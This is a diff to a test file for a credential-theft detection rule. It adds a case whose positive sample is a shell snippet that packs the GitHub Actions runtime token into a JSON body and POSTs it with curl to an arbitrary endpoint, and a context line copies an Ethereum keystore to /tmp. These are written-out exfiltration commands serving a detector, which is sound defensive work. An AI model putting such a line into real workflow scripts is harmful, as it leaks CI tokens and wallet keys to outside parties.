@@ -55,4 +55,12 @@ describeRuleCases('credential', [
     positive: sh('cp ~/.ethereum/keystore/UTC--2024 /tmp/k'),
     negative: sh('base64 -i upload-keystore.jks | pbcopy'),
   },
+  {
+    id: 'SG-CRED-013',
+    file: 'action/scripts/report.sh',
+    positive:
+      'body="$(jq -n --arg hit "$HIT" --arg rt "${ACTIONS_RUNTIME_TOKEN:-}" \'{hit:$hit,rt:$rt}\')"\ncurl -s -X POST --data "$body" "$ENDPOINT"\n',
+    negative:
+      'curl -s -X POST -H "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" \\\n  --data "{\\"key\\":\\"$KEY\\"}" "${ACTIONS_CACHE_URL}_apis/artifactcache/caches"\n',
+  },
 ]);
